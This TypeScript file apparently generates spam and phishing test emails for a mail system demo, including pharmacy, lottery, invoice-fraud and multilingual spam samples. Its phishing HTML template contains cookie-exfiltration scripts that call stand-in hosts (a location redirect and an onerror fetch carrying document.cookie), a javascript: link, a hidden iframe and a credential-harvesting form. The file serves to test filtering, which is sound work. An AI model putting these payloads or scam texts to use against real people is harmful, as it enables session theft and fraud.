// The spam and spammy message scenarios (content categories S, Y and s): pharmacy, lottery,
// phishing, crypto, backscatter, GTUBE, mail in Cyrillic, Japanese and German, newsletters and the like.
import {
  encodedWordB,
  encodeIso2022jp,
  encodeLatin1Q,
  encodeWindows1251,
  fakePdf,
  GTUBE,
  PNG_1X1,
  replaceHeader,
  rfc2822,
} from './demo-mime.ts';
import {
  bigPdf,
  DEMO_HOST,
  firstName,
  NEWSLETTER_HTML,
  type Scenario,
  type ScenarioContext,
  type Sender,
} from './demo-scenarios.ts';

const HOSTILE_HTML = (ctx: ScenarioContext, brand: string, host: string) => `<!DOCTYPE html>
<html><head>
<meta charset="utf-8">
<meta http-equiv="refresh" content="10;url=https://${host}/session/expired">
<title>${brand} security notice</title>
<script>window.location='https://${host}/c?d='+encodeURIComponent(document.cookie);</script>
<style>body{font-family:Arial,sans-serif;background:url(https://tracker.example/bg.png?u=${ctx.rng.hex(12)})}</style>
</head>
<body onload="document.forms[0].user.focus()">
<img src="https://tracker.example/open.gif?id=${ctx.rng.hex(16)}" width="1" height="1" alt="">
<table width="600" align="center"><tr><td>
<h2 style="color:#003087">${brand}</h2>
<p>Dear customer,</p>
<p>We detected unusual sign-in activity on your account. To avoid permanent suspension you must
verify your identity within <b>24 hours</b>.</p>
<form action="https://${host}/verify" method="post">
<input type="text" name="user" placeholder="Email address">
<input type="password" name="pass" placeholder="Password">
<button type="submit">Verify now</button>
</form>
<p><img src="cid:missing-logo" onerror="fetch('https://tracker.example/e?c='+document.cookie)" alt="logo"></p>
<p><a href="javascript:alert(document.domain)">Cancel this request</a></p>
<iframe src="https://${host}/frame" width="0" height="0" style="display:none"></iframe>
<p style="font-size:10px;color:#999">${brand} Inc. All rights reserved.</p>
</td></tr></table>
</body></html>
`;

export const SPAM = {
  gtube: (ctx) => ({
    from: { name: 'Spammer', address: 'spammer@bulk-sender.test' },
    subject: 'GTUBE test message',
    text: `This is the GTUBE, the\n\tGeneric\n\tTest for\n\tUnsolicited\n\tBulk\n\tEmail\n\n${GTUBE}\n`,
    reason: 'spam',
    gtube: true,
    attachments: bigPdf(ctx, 'gtube-appendix.pdf'),
  }),
  pharma: (ctx) => ({
    from: ctx.rng.pick<Sender>([
      { name: 'Pharmacy Direct', address: 'sales@rx-discount.test' },
      { name: 'Dr. Health', address: 'info@pills-express.test' },
    ]),
    envelopeFrom: `bounce-${ctx.rng.int(10000, 99999)}@mailer.rx-discount.test`,
    subject: ctx.rng.pick([
      'Cheap meds – 80% off today only',
      'V1agra & C1alis – no prescription needed',
      'Your discreet order is ready',
      'RE: your prescription refill',
    ]),
    text:
      `Hello ${firstName(ctx.to)},\n\nTop quality generics at the lowest prices on the web.\n` +
      `- No prescription required\n- Discreet worldwide shipping\n- 100% money back guarantee\n\n` +
      `Order now: http://rx-discount.test/?ref=${ctx.rng.hex(8)}\n\nTo stop receiving these messages reply STOP.\n`,
    reason: 'spam',
    attachments: bigPdf(ctx, 'catalog.pdf'),
  }),
  lottery: (ctx) => ({
    from: { name: 'International Lottery Commission', address: 'claims@intl-lotto.test' },
    envelopeFrom: 'Grace.Williams1987@FreeMail.test',
    replyTo: 'claims.agent.williams@freemail.test',
    subject: ctx.rng.pick([
      'CONGRATULATIONS!!! You have won €1,000,000.00',
      'WINNING NOTIFICATION – Ref: ILC/2291/77',
      'Urgent: unclaimed funds in your name',
    ]),
    text:
      'Dear Beneficiary,\n\nWe are pleased to inform you that your e-mail address was selected in our annual\n' +
      'international draw and has won the sum of EUR 1,000,000.00 (ONE MILLION EURO).\n\n' +
      'To claim your prize, send your full name, address, phone number and a copy of your passport\n' +
      'to our claims agent Mrs. Grace Williams.\n\nYours faithfully,\nDr. Peter Okafor\nClaims Director\n',
    reason: 'spam',
  }),
  phishing: (ctx) => {
    const [brand, address, host] = ctx.rng.pick([
      ['PayPaI Service', 'service@paypa1-support.test', 'paypa1-support.test'],
      ['Secure Banking', 'no-reply@secure-bank-verify.test', 'secure-bank-verify.test'],
      ['Microsoft 365', 'admin@m365-account-check.test', 'm365-account-check.test'],
      ['Mailbox Administrator', 'postmaster@mailbox-quota.test', 'mailbox-quota.test'],
    ] as const);
    return {
      from: { name: brand, address },
      subject: ctx.rng.pick([
        'Your account has been suspended',
        'Action required: verify your mailbox',
        'Unusual sign-in activity',
        `[${ctx.to.address}] Mailbox quota exceeded`,
      ]),
      text: `Dear customer,\n\nWe detected unusual sign-in activity. Verify your account at https://${host}/verify\n`,
      html: HOSTILE_HTML(ctx, brand, host),
      reason: 'spam',
    };
  },
  crypto: (ctx) => ({
    from: { name: 'Crypto Insider', address: 'news@crypto-insider.test' },
    envelopeFrom: `msprvs1=${ctx.rng.hex(10)}@bounces.crypto-insider.test`,
    subject: ctx.rng.pick([
      'This coin will 100x before Friday',
      'Elon just bought THIS token',
      'Last chance: 3 crypto picks for 2025',
    ]),
    text: 'Our analysts found the next big coin. Buy before it explodes: https://crypto-insider.test/pick\n',
    html: NEWSLETTER_HTML(ctx, 'Crypto Insider', 'The next 100x coin is here', 'crypto-insider.test'),
    headers: { 'List-Unsubscribe': '<https://crypto-insider.test/unsubscribe>' },
    reason: 'spam',
  }),
  cyrillic: () => ({
    from: { name: 'Анна Петрова', address: 'anna.petrova@mail-ru.test' },
    subject: 'Увеличьте продажи в 3 раза — бесплатная консультация',
    text:
      'Здравствуйте!\n\nМы поможем вашему бизнесу привлечь новых клиентов. Рассылки, реклама,\n' +
      'продвижение в поисковых системах. Первая консультация бесплатно.\n\nС уважением,\nАнна\n',
    textEncoding: 'base64',
    dateOffset: 180,
    reason: 'spam',
  }),
  cyrillic1251: (ctx) => ({
    from: { name: 'Outlet', address: 'sale@outlet-msk.test' },
    subject: 'Скидки до 70% только сегодня',
    text: 'Распродажа! Скидки до 70% на всю коллекцию. Только сегодня: http://outlet-msk.test/\n',
    dateOffset: 180,
    reason: 'spam',
    rewrite: (mail) => ({
      ...mail,
      head: replaceHeader(
        mail.head,
        'Subject',
        encodedWordB('windows-1251', encodeWindows1251('Скидки до 70% только сегодня')),
      ),
    }),
    attachments: bigPdf(ctx, 'price-list.pdf'),
  }),
  japanese: () => {
    const subject = '【セール】ポイントがもらえるキャンペーン';
    return {
      from: { name: '山田 花子', address: 'hanako.yamada@shop-jp.test' },
      subject,
      text:
        'いつもご利用いただきありがとうございます。\n期間限定のキャンペーンを開催中です。\n' +
        '今すぐチェックしてください: https://shop-jp.test/campaign\n',
      dateOffset: 540,
      reason: 'spam',
      rewrite: (mail) => ({
        ...mail,
        head: replaceHeader(mail.head, 'Subject', encodedWordB('ISO-2022-JP', encodeIso2022jp(subject))),
      }),
    };
  },
  german: (ctx) => ({
    from: { name: 'Jürgen Müller', address: 'j.mueller@gewinnspiel.test' },
    subject: 'Glückwunsch! Ihr Gewinn über 5.000 EUR wartet auf Sie',
    text:
      `Hallo ${firstName(ctx.to)},\n\nSie wurden als Gewinner ausgewählt! Bestätigen Sie jetzt Ihre Daten,\n` +
      'damit wir Ihnen den Gewinn überweisen können.\n\nMit freundlichen Grüßen\nJürgen Müller\n',
    dateOffset: 60,
    reason: 'spam',
    rewrite: (mail) => {
      let head = replaceHeader(
        mail.head,
        'From',
        `${encodeLatin1Q('Jürgen Müller')} <j.mueller@gewinnspiel.test>`,
      );
      head = replaceHeader(
        head,
        'Subject',
        encodeLatin1Q('Glückwunsch! Ihr Gewinn über 5.000 EUR wartet auf Sie'),
      );
      return { ...mail, head };
    },
  }),
  emoji: (ctx) => ({
    from: { name: 'Hot Deals 🔥', address: 'deals@megastore.test' },
    subject: '🔥🔥 Up to 90% off – today only! 🛍️',
    text: 'Flash sale! Everything must go. https://megastore.test/flash\n',
    html: NEWSLETTER_HTML(ctx, 'MegaStore', '🔥 Flash sale: up to 90% off', 'megastore.test'),
    reason: 'spam',
  }),
  invoice: (ctx) => ({
    from: { name: 'Accounts Payable', address: 'ap@invoices-portal.test' },
    envelopeFrom: `ap-${ctx.rng.hex(6)}@compromised-host.test`,
    subject: `Invoice #INV-${ctx.rng.int(10000, 99999)} overdue`,
    text:
      `Hi ${firstName(ctx.to)},\n\nPlease find attached the overdue invoice. Payment is due immediately to\n` +
      'avoid a late fee. Bank details have changed, see the attached document.\n\nRegards,\nAccounts Payable\n',
    attachments: ctx.big
      ? bigPdf(ctx, 'invoice.pdf')
      : [{ filename: 'invoice.pdf', content: fakePdf(ctx.rng, ctx.rng.int(2000, 6000), 'Invoice') }],
    reason: 'spam',
  }),
  image: () => ({
    from: { name: 'Watches Outlet', address: 'promo@replica-watches.test' },
    subject: 'Luxury watches at 10% of the price',
    html:
      '<html><body><a href="https://replica-watches.test/shop"><img src="cid:offer@replica" width="600" ' +
      'alt=""></a><p style="color:#fefefe;font-size:1px">weather garden teacher window</p></body></html>\n',
    attachments: [
      { filename: 'offer.png', content: PNG_1X1, contentType: 'image/png', cid: 'offer@replica' },
    ],
    reason: 'spam',
  }),
  backscatter: (ctx) => {
    const spamId = `<${ctx.rng.hex(16)}@${DEMO_HOST}>`;
    const bounced =
      `From: ${ctx.to.address}\nTo: victim@remote-host.test\nSubject: Re: your order\nMessage-ID: ${spamId}\n` +
      `Date: ${rfc2822(ctx.time - 7200)}\n\nBuy cheap watches at https://replica-watches.test/\n`;
    return {
      from: { name: 'Mail Delivery System', address: 'MAILER-DAEMON@mx.remote-host.test' },
      envelopeFrom: '',
      subject: 'Undelivered Mail Returned to Sender',
      text:
        "This is the mail system at host mx.remote-host.test.\n\nI'm sorry to have to inform you that your message " +
        'could not\nbe delivered to one or more recipients.\n\n<victim@remote-host.test>: host ' +
        'mail.remote-host.test said: 550 5.1.1\n    User unknown (in reply to RCPT TO command)\n',
      attachments: [
        {
          filename: 'details.txt',
          contentType: 'message/delivery-status',
          content:
            'Reporting-MTA: dns; mx.remote-host.test\n\nFinal-Recipient: rfc822; victim@remote-host.test\n' +
            'Action: failed\nStatus: 5.1.1\nDiagnostic-Code: smtp; 550 5.1.1 User unknown\n',
        },
        { filename: 'message.eml', contentType: 'message/rfc822', content: bounced },
      ],
      reason: 'spam',
      rewrite: (mail) => ({
        ...mail,
        head: mail.head.replace(
          /Content-Type: multipart\/mixed;/,
          'Content-Type: multipart/report; report-type=delivery-status;',
        ),
      }),
    };
  },
  longSubject: () => ({
    from: { name: '通販ショップ', address: 'info@tsuhan-shop.test' },
    subject:
      '【期間限定】全品ポイント10倍キャンペーン開催中！人気商品が今だけ特別価格でお買い求めいただけます。' +
      'お見逃しなく、この機会にぜひご利用ください。送料無料、即日発送、返品保証つき。会員様限定の特別クーポンも配布中です。',
    text: 'キャンペーン開催中です。https://tsuhan-shop.test/\n',
    dateOffset: 540,
    reason: 'spam',
  }),
} satisfies Record<string, Scenario>;

export const SPAMMY = {
  newsletter: (ctx) => {
    const [brand, address, host, subjects] = ctx.rng.pick([
      [
        'Fashion Outlet',
        'newsletter@fashion-outlet.test',
        'fashion-outlet.test',
        ['Weekend sale: extra 20% off', 'New arrivals just for you'],
      ],
      [
        'Cheap Flights',
        'offers@cheap-flights.test',
        'cheap-flights.test',
        ['Flights from 19 EUR – book now', 'Your exclusive member fares'],
      ],
      [
        'Gadget World',
        'news@gadget-world.test',
        'gadget-world.test',
        ['Your exclusive member offer', 'The new X12 Pro is here'],
      ],
    ] as const);
    return {
      from: { name: brand, address },
      envelopeFrom: `bounce+${ctx.rng.hex(12)}@em.${host}`,
      subject: ctx.rng.pick(subjects),
      text: `${brand}: our best offers this week. https://${host}/\n`,
      html: NEWSLETTER_HTML(ctx, brand, 'This week only', host),
      headers: {
        'List-Unsubscribe': `<https://${host}/unsubscribe>, <mailto:unsubscribe@${host}>`,
        'List-Unsubscribe-Post': 'List-Unsubscribe=One-Click',
        Precedence: 'bulk',
      },
      attachments: bigPdf(ctx, 'catalogue.pdf'),
    };
  },
  seo: (ctx) => ({
    from: { name: 'Rank First SEO', address: 'hello@rank-first.test' },
    subject: ctx.rng.pick([
      `Quick question about ${ctx.to.address.split('@')[1]}`,
      'Get your website on page 1 of Google',
      'Re: website redesign proposal',
    ]),
    text:
      `Hi ${firstName(ctx.to)},\n\nI was checking your website and noticed a few issues that keep it from ranking\n` +
      'on the first page. We can fix them for a small monthly fee.\n\nWould you be interested in a free audit?\n\n' +
      'Best,\nSteve\n',
  }),
  webinar: (ctx) => ({
    from: { name: 'SaaS Webinars', address: 'events@saas-webinars.test' },
    subject: 'Invitation: Scaling your team in 2025 (live webinar)',
    text: `Hi ${firstName(ctx.to)},\n\nJoin our free live webinar next Thursday at 17:00 CET.\nRegister: https://saas-webinars.test/r/${ctx.rng.hex(8)}\n`,
    html: NEWSLETTER_HTML(ctx, 'SaaS Webinars', 'Join us live next Thursday', 'saas-webinars.test'),
  }),
  cart: (ctx) => ({
    from: { name: 'Gadget World', address: 'noreply@gadget-world.test' },
    subject: 'You left something in your cart 🛒',
    text: 'Complete your order now and get 10% off: https://gadget-world.test/cart\n',
    html: NEWSLETTER_HTML(ctx, 'Gadget World', 'Still thinking about it?', 'gadget-world.test'),
  }),
  japaneseNews: () => ({
    from: { name: 'ショップ通信', address: 'news@shop-jp.test' },
    subject: 'ポイント2倍セールのおしらせ',
    text: 'いつもありがとうございます。ポイント2倍セールを開催します。\n',
    dateOffset: 540,
  }),
} satisfies Record<string, Scenario>;
